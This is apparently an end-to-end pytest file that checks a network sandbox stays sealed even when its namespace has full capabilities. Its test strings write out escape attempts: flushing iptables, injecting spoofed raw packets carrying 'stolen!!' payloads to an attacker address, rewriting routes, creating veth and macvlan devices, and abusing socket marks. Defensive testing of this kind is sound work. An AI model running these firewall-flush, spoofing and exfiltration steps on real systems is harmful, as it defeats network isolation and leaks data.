"""NET rows for a sandbox with every power over its network. It has none, so here the power comes from outside."""

from __future__ import annotations

import os
import subprocess

import pytest

from tests.bypass.arena import INSIDE, Arena, Driver
from tests.bypass.processes import inside_of
from tests.e2e.conftest import until

pytestmark = pytest.mark.e2e

_PACKET = (("packet", "deny", "protocol_not_allowed"),)


def with_power(driver: Driver, code: str, *, uid: int = 0) -> str:
    """Run code of an attack in a sandbox's network namespace with all capabilities over it."""
    pid = inside_of(driver.process.pid)
    program = f"import sys; sys.path.insert(0, {str(INSIDE.parent)!r})\nfrom inside import *\n{code}"
    become = ["setpriv", "--reuid", str(uid), "--clear-groups", *_KEEP] if uid else []
    ran = subprocess.run(
        [
            "nsenter",
            f"--net=/proc/{pid}/ns/net",
            "--",
            *become,
            "/usr/bin/python3",
            "-W",
            "ignore",
            "-c",
            program,
        ],
        capture_output=True,
        text=True,
        timeout=30,
        env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "PYTHONDONTWRITEBYTECODE": "1"},
    )
    assert ran.returncode == 0, ran
    return ran.stdout


_KEEP = [
    "--inh-caps=+net_admin,+net_raw,+net_bind_service",
    "--ambient-caps=+net_admin,+net_raw,+net_bind_service",
]
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="entering a sandbox with power needs root")
_FLUSH = (
    "OPEN = '*filter\\n:INPUT ACCEPT\\n:FORWARD ACCEPT\\n:OUTPUT "
    "ACCEPT\\nCOMMIT\\n*nat\\nCOMMIT\\n*mangle\\nCOMMIT\\n*raw\\nCOMMIT\\n'\n"
    "for tool in ('iptables-restore', 'ip6tables-restore'):\n if run(tool, text=OPEN) != '[0]': say('not flushed')\n"
)
_INJECT = """
def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def packet(payload, protocol=17, offset=0, more=0, ident=7):
    size, place, target = 20 + len(payload), more << 13 | offset, socket.inet_aton('11.6.6.6')
    head = struct.pack('!BBHHHBBH4s4s', 69, 0, size, ident, place, 64, protocol, 0, SOURCE, target)
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload
def raw(*packets):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for each in packets:
            try: sock.sendto(each, ('11.6.6.6', 0)); say('sent')
            except OSError as error: say(error)
DATAGRAM = struct.pack('!HHHH', 4444, 443, 8 + 16, 0) + b'sixteen bytes...'
FRAGMENTS = (packet(DATAGRAM[:8], more=1), packet(DATAGRAM[8:], offset=1))
"""


@needs_root
def test_power_over_the_namespace_only_cuts_a_sandbox_off(explaining: Arena) -> None:
    """NET-07, NET-27: rules flushed, packets injected, routes replaced, devices made: there is nothing to leave by."""
    lab = explaining.lab
    inject = f"SOURCE = socket.inet_aton('11.0.0.3')\n{_INJECT}\nraw(packet(DATAGRAM))"
    lab.forget()
    explaining.open.run(inject)
    until(lambda: lab.attacker_hits("udp"), 3, "the attack itself works")
    lab.forget()
    attack = (
        f"SOURCE = socket.inet_aton('198.18.0.254')\n{_INJECT}{_FLUSH}"
        "for words in ('route replace default via 11.0.0.1 dev lo onlink', 'route flush table local', 'route add default "
        "dev lo',"
        " 'link add up0 type veth peer name up1', 'addr add 11.0.0.9/24 dev up0', 'link set up0 up', 'link set up1 up',"
        " 'route replace default via 11.0.0.1 dev up0', 'link add m0 link up0 type macvlan', 'link add d0 type dummy'):\n"
        " run('ip', *words.split())\n"
        "raw(packet(DATAGRAM), packet(b'stolen!!', 253), packet(b'stolen!!', 47))\n"
        "for device in ('lo', 'up0'):\n"
        " try:\n"
        "  with socket.socket(17, 3, socket.htons(0x0800)) as sock:\n"
        "   sock.bind((device, 0x0800)); sock.send(b'\\xff' * 6 + b'\\x02' * 6 + b'\\x08\\x00' + packet(DATAGRAM)); "
        "say('injected')\n"
        " except OSError as error:\n  say(error)\n"
        "say(shown(udp('11.6.6.6', 443)), shown(tcp('11.6.6.6', 80, get('/', 'x'), seconds=1)))"
    )
    with explaining.another() as driver:
        address = driver.run("say(socket.gethostbyname('api.lab-origin.com'))").strip()
        request = f"say(shown(tls('{address}', 443, get(), 'api.lab-origin.com', seconds=1)))"
        assert "200 OK" in driver.run(request)
        lab.forget()
        said = with_power(driver, attack)
        assert "injected" in said
        assert "owned" not in said
        assert "200 OK" not in driver.run(request), "it goes on without its rules"
        explaining.nothing_reached()
    explaining.life_goes_on()


@needs_root
def test_no_uid_and_no_mark_is_exempt(explaining: Arena) -> None:
    """NET-08: also for somebody who can take any of them."""
    attack = (
        "for mark in (0, 1, 0x539, 15001, 0xffffffff):\n"
        " with socket.socket() as sock:\n"
        "  sock.settimeout(3); sock.setsockopt(1, 36, struct.pack('I', mark)); sock.connect(('11.6.6.6', 80)); "
        "sock.sendall(get('/', 'x'))\n"
        "  say('refused' if b'reason ip_literal' in receive(sock) else 'GONE')"
    )
    explaining.lab.forget()
    said = [with_power(explaining.a, attack, uid=uid) for uid in (0, 1337, 59137, 65533)]
    assert said == ["refused\n" * 5] * 4
    explaining.nothing_reached()
    explaining.life_goes_on()


@needs_root
def test_a_flow_that_was_there_before_the_rules_ends_with_them(explaining: Arena) -> None:
    """NET-11: nothing accepts what is merely established."""
    attack = (
        "saved = run('iptables-save').rsplit('[', 1)[0]\n"
        + _FLUSH
        + "sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.connect(('11.6.6.6', 443)); sock.settimeout(0.3)\n"
        "served = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); served.bind(('11.6.6.6', 443))\n"
        "sock.send(b'early'); data, peer = served.recvfrom(100); served.sendto(b'reply', peer); say(shown(sock.recv(100)))\n"
        "say(run('iptables-restore', text=saved))\n"
        "try:\n sock.send(b'late'); say('GONE')\nexcept OSError as error:\n say(error)\n"
        "say('ESTABLISHED' in saved)"
    )
    explaining.lab.forget()
    with explaining.another() as driver:
        said = with_power(driver, attack)
        assert said == "reply\n[0]\n[Errno 1] Operation not permitted\nFalse\n"
        explaining.nothing_reached()


@needs_root
def test_fragments_are_judged_whole_or_go_nowhere(explaining: Arena) -> None:
    """NET-25."""
    lab = explaining.lab
    lab.forget()
    explaining.open.run(f"SOURCE = socket.inet_aton('11.0.0.3')\n{_INJECT}\nraw(*FRAGMENTS)")
    until(lambda: lab.attacker_hits("udp"), 3, "the attack itself works")
    lab.forget()
    said = explaining.a.run(f"SOURCE = socket.inet_aton('198.18.0.254')\n{_INJECT}\nraw(*FRAGMENTS)")
    assert "Operation not permitted" in said
    mark = len(explaining.stand.records())
    said = with_power(
        explaining.a, f"SOURCE = socket.inet_aton('198.18.0.254')\n{_INJECT}\nraw(*FRAGMENTS, FRAGMENTS[0])"
    )
    records = explaining.new_records(mark, _PACKET)
    assert [(r["address"], r["port"]) for r in records if r.get("layer") == "packet"] == [("11.6.6.6", 443)]
    explaining.nothing_reached()
    explaining.life_goes_on()
